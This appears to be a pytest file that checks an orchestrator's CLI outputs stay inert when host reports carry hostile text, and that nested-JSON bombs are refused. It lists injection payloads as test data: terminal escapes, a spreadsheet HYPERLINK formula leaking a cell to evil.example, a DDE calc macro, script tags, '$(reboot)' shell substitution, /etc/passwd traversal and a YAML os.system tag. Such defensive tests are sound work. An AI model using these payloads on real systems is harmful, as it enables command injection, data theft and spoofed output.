"""What a host says, made to harm whoever reads it: every text, in every command and format."""

import csv
import io
import json
from typing import Any

import msgspec
import pytest
import yaml

from contract.certificate import CertificateFact, CertificateVerdict
from contract.envelope import PayloadType, sign
from contract.instant import now_ms
from contract.order import encode
from contract.outcome import StepOutcome
from contract.report import ActionReport, PassReport, Report, StepReport
from orchestrator.claim import LetterError
from orchestrator.cli.visible import visible
from orchestrator.recorder import Recorder
from orchestrator.verifier import Verifier
from tests.unit.orchestrator.cli.conftest import Denrei, Said
from tests.unit.orchestrator.cli.place import Place

FORGED = "forged: a line of its own"
PAYLOADS = {
    "clears the screen": "\x1b[2J\x1b[H",
    "renames the terminal": "\x1b]0;owned\x07",
    "asks the terminal to type": "\x1b[6n\x1bP$q\x1b\\",
    "one-byte control sequence": "\x9b31mred",
    "overwrites the line": "failed\rok    ",
    "forges a line": f"x\n{FORGED}",
    "forges a line by other separators": f"x\u2028{FORGED}\u2029\x85\x0b\x0c",
    "backspaces": "no\b\byes",
    "reverses the text": "\u202egpj.exe\u202c",
    "isolates": "\u2067abc\u2069",
    "hides letters": "a\u200bb\u2060c\ufeffd\u00ade",
    "writes in tags": "\U000e0061\U000e0062\U000e007f",
    "markup of rich": "[bold red]markup[/bold red][/]",
    "a link of rich": "[link=file:///etc/passwd]here[/link]",
    "an emoji code of rich": ":pile_of_poo:",
    "a formula": '=HYPERLINK("http://evil.example/?"&A1;"click")',
    "a formula behind a tab": "\t=1+1",
    "a macro": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a new cell and a new row": 'a","b"\r\n"c',
    "a property of a calendar": "x\r\nBEGIN:VALARM\r\nACTION:PROCEDURE",
    "markup of the web": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a format": "%s%s%n {0.__class__.__init__.__globals__} ${params.x} {{7*7}}",
    "words of a shell": "$(reboot) `reboot` ; reboot",
    "a path": "../../../../etc/passwd",
    "a tag of YAML": "!!python/object/apply:os.system ['reboot']",
    "a NUL": "a\0b",
    "much": "漢" * 300,
}
OF_A_RUN = (("run", "show", "RUN"), ("run", "show", "RUN", "--output"), ("run", "watch", "RUN"))
OF_THE_FLEET = (
    *(("run", "list"), ("host", "list"), ("host", "show", "web1"), ("host", "show", "web2")),
    *(("cert", "list"), ("cert", "timeline"), ("audit", "log"), ("audit", "verify")),
)


def hostile_action(text: str) -> ActionReport:
    return ActionReport(
        kind=text,
        summary=text,
        exit_code=1,
        stdout=text,
        stderr=text,
        stdout_bytes=2**53,
        stdout_sha256=text,
    )


def hostile_step(text: str, **changes: Any) -> StepReport:
    step = StepReport(
        name=text,
        outcome=StepOutcome.FAILED,
        reason=text,
        evidence={text: text, "agent.list": [text], "agent.pid": -(2**63)},
        started_at=0,
        ended_at=253_402_300_799_000,
        attempts=2**31,
        action=hostile_action(text),
        earlier=[text],
    )
    return msgspec.structs.replace(step, **changes)


def hostile_fact(text: str) -> CertificateFact:
    now = now_ms()
    return CertificateFact(
        path=text,
        endpoint=text,
        service=text,
        verdict=CertificateVerdict.EXPIRED,
        reason=text,
        confirmed=True,
        outage_at=now - 1,
        expiring_at=now,
        not_before=0,
        not_after=now,
        serial=text,
        subject=text,
        issuer=text,
        sha256=text,
        san=[text] * 3,
        served_sha256=text,
        renewal=text,
        observed_at=now,
    )


def report(place: Place, denrei: Denrei, text: str) -> str:
    """Let web1 report a run in which every text is this one, and web2 refuse it so."""
    run_id = denrei("submit", "look", "--host", "web*", "--detach").out.strip()
    step = hostile_step(text, rescue=[hostile_step(text)])
    place.report(
        "web1",
        StepOutcome.FAILED,
        text,
        passes=[PassReport(item=text, steps=[step], values={text: text, "x": [text]})],
        notes=[text],
        certificates=[hostile_fact(text)],
        worker=text,
    )
    place.refuse("web2", text, text)
    return str(run_id)


def said(denrei: Denrei, run_id: str, *command: str) -> Said:
    answer = denrei(*(run_id if word == "RUN" else word for word in command))
    assert answer.code in (0, 3, 4, 6), answer.err
    assert "Traceback" not in answer.err
    return answer


def check_shown(denrei: Denrei, run_id: str, *command: str) -> str:
    """See to it that nothing acts on a terminal, and that no host made a line of its own."""
    answer = said(denrei, run_id, *command)
    for line in (answer.out + answer.err).split("\n"):
        assert visible(line) == line, command
        assert not line.strip().startswith(FORGED), command
    return answer.out


def check_document(denrei: Denrei, run_id: str, *command: str) -> Any:
    """See to it that a machine gets pure ASCII and nothing but data, in every format."""
    for format_ in ("jsonl", "yaml", "json"):
        out = said(denrei, run_id, *command, "-o", format_).out
        assert out.isascii(), command
        assert visible(out.replace("\n", "")) == out.replace("\n", ""), command
        if format_ == "yaml":
            yaml.safe_load(out)
        else:
            found = json.loads(out if format_ == "json" else f"[{','.join(out.splitlines())}]")
    return found


@pytest.mark.parametrize("attack", PAYLOADS)
def test_report_of_a_run_harms_nobody_who_reads_it(
    place: Place, denrei: Denrei, attack: str
) -> None:
    payload = PAYLOADS[attack]
    run_id = report(place, denrei, payload)
    shown = [check_shown(denrei, run_id, *command) for command in OF_A_RUN]
    if payload.startswith(("[", ":", "<", "%", "$")):
        assert payload[:12] in shown[0]  # it is text and nothing else
    document = check_document(denrei, run_id, "run", "show", "RUN")
    assert document["hosts"][0]["passes"][0]["steps"][0]["reason"] == payload


@pytest.fixture
def all_reported(place: Place, denrei: Denrei) -> str:
    """Every one of these reports in one store."""
    return [report(place, denrei, payload) for payload in PAYLOADS.values()][-1]


def test_reports_of_a_fleet_harm_nobody_who_lists_them(all_reported: str, denrei: Denrei) -> None:
    for command in OF_THE_FLEET:
        check_shown(denrei, all_reported, *command)
        if command != ("cert", "timeline"):
            check_document(denrei, all_reported, *command)


def test_reports_of_a_fleet_are_no_formula_and_no_further_row_in_a_spreadsheet(
    all_reported: str, denrei: Denrei
) -> None:
    out = said(denrei, all_reported, "cert", "list", "-o", "csv").out
    header, *rows = list(csv.reader(io.StringIO(out, newline="")))
    assert [len(row) for row in rows] == [len(header)] * len(PAYLOADS)
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "@", "\t", "\r"))
        assert visible(cell) == cell
    calendar = said(denrei, all_reported, "cert", "list", "-o", "ics").out
    assert "\nBEGIN:VALARM" not in calendar
    assert "\nACTION:" not in calendar


def deep(opening: str, closing: str, depth: int) -> str:
    return opening * depth + "1" + closing * depth


OBJECT = '{"b":'
STEP = '{"name":"deeper","outcome":"ok","rescue":['
BOMBS = {
    "brackets without an end": '"evidence":' + "[" * 100_000,
    "braces without an end": '"evidence":' + '{"a":' * 40_000,
    "lists in lists": f'"evidence":{{"a":{deep("[", "]", 400)}}}',
    "objects in objects": f'"evidence":{{"a":{deep(OBJECT, "}", 400)}}}',
    "rescues in rescues": f'"rescue":[{STEP * 400}{"]}" * 400}]',
    "a number of digits": '"evidence":{"a":' + "9" * 100_000 + "}",
    "a number beyond all": '"evidence":{"a":1e999}',
    "no number": '"evidence":{"a":NaN}',
    "half a pair": '"reason":"\\ud800"',
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_report_that_is_a_bomb_is_refused_and_nothing_is_kept(
    place: Place, denrei: Denrei, bomb: str
) -> None:
    """Signed as it should be by the host's own key; it is no report all the same."""
    denrei("submit", "look", "--host", "web1", "--detach")
    share = place.host_run("web1")
    assert share is not None
    step = StepReport(name="bomb", outcome=StepOutcome.OK)
    now = now_ms()
    whole = Report(
        host="web1",
        epoch=1,
        keyring=1,
        run_id=share.run_id,
        order_sha256=share.order_sha256,
        counter=1,
        state=share.state,
        outcome=StepOutcome.OK,
        check=False,
        accepted_at=now,
        started_at=now,
        ended_at=now,
        passes=[PassReport(steps=[step])],
    )
    payload = encode(whole).decode().replace('"name":"bomb"', f'"name":"bomb",{BOMBS[bomb]}')
    assert BOMBS[bomb] in payload
    blob = sign(PayloadType.REPORT, payload.encode(), [place.sides["web1"].key])
    with place.store() as store:
        before = store.envelopes.list()
        (result,) = Recorder(store, place.home.recorder_key(), Verifier()).record([blob])
        assert isinstance(result, LetterError)
        assert store.envelopes.list() == before
